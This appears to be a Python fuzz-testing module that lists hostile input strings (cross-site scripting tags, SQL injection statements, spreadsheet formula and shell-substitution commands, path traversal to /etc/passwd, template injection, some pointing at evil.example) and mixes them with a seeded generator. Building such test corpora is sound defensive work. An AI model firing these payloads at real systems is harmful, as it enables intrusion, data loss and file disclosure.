"""Strings that mean harm: each would do something somewhere, if it were not mere text.

All of them can be typed by a resident: what `api.inputs` refuses (control characters, signs that
turn the direction of writing) stands apart, in `REFUSED`.
"""

from __future__ import annotations

import random
from typing import Final

MARK: Final = "pwned"  # what a script that ran would leave behind
SCRIPTS: Final = (
    f"<script>window.{MARK}=1</script>",
    f"</script><script>window.{MARK}=1</script>",
    f"</title></style></textarea></noscript><script>{MARK}=1</script>",
    f"<img src=x onerror=window.{MARK}=1>",
    f"<svg/onload=window.{MARK}=1>",
    f"<svg><script href=data:,{MARK}=1 />",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'>",
    f"<body onload=window.{MARK}=1>",
    f"<details open ontoggle=window.{MARK}=1>",
    f"<input autofocus onfocus=window.{MARK}=1>",
    f"<style>@import'//evil.example/{MARK}.css'</style>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><button>x",
    f"javascript:window.{MARK}=1",
    f"data:text/html,<script>parent.{MARK}=1</script>",
    f'" onmouseover=window.{MARK}=1 x="',
    f"' autofocus onfocus=window.{MARK}=1 '",
    f"`${{window.{MARK}=1}}`",
    f"{{{{constructor.constructor('window.{MARK}=1')()}}}}",
    f"${{window.{MARK}=1}}",
    f"\\u003cscript\\u003ewindow.{MARK}=1\\u003c/script\\u003e",
    f"<!--><script>{MARK}=1</script-->",
    f"]]><script>{MARK}=1</script>",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{7*7}}${7*7}#{7*7}<%=7*7%>",
)
STATEMENTS: Final = (
    "'; DROP TABLE matter; --",
    '"; DELETE FROM account; --',
    "' OR '1'='1",
    "1); SELECT pg_sleep(9); --",
    "$$; DROP SCHEMA public CASCADE; $$",
    "' UNION SELECT password_hash FROM account --",
    "%' OR '%'='",
    "\\'; DROP TABLE region; --",
    "%(no)s :no %s $1 ?",
    "_%_%_%_%_%_%",
)
COMMANDS: Final = (
    "=1+1",
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "; touch /tmp/pwned #",
    "../../../../etc/passwd",
    "..\\..\\windows\\system32",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2f",
    "CON",
    "-rf",
    "--version",
)
ODDITIES: Final = (
    "NaN",
    "null",
    "undefined",
    "true",
    "-1",
    "1e999",
    "0x7fffffff",
    "9" * 40,
    "__proto__",
    "constructor",
    "toString",
    "[object Object]",
    "{}",
    "[]",
    '{"a": 1}',
    "ＡＢ　１",
    "𠮷𡈽𣏕",
    "👩‍👩‍👧‍👦🏳️‍🌈",
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘",
    "ﷺ" * 8,
    "\u0644\u0627",
    "a" * 190,
    "长" * 190,
    "x\u00adx\u034fx",
    "&lt;b&gt;&amp;&#60;",
    "%00%0a%0d",
    "\\n\\r\\0",
    "Ω≈ç√∫˜µ≤≥÷",
)
EVERY: Final = SCRIPTS + STATEMENTS + COMMANDS + ODDITIES
REFUSED: Final = ("a\x00b", "\x1b[31mred", "a\u202eb", "\ud800", "a\ufffdb", "\u2028", "\x07")


def hostile_strings(count: int, *, most: int, seed: int = 7) -> list[str]:
    """That many different ones of at most `most` letters: each known one, then two or three of them
    joined by what may stand between. The same for the same seed.
    """
    chance = random.Random(seed)
    made = dict.fromkeys(one[:most].strip() for one in EVERY)
    while len(made) < count:
        parts = chance.sample(EVERY, chance.choice((2, 3)))
        joined = chance.choice(("", " ", "'", '"', "<", "·", "\\", "/", "`", "网格"))
        made.setdefault(joined.join((*parts, str(chance.randrange(9999))))[-most:].strip())
    return list(made)[:count]
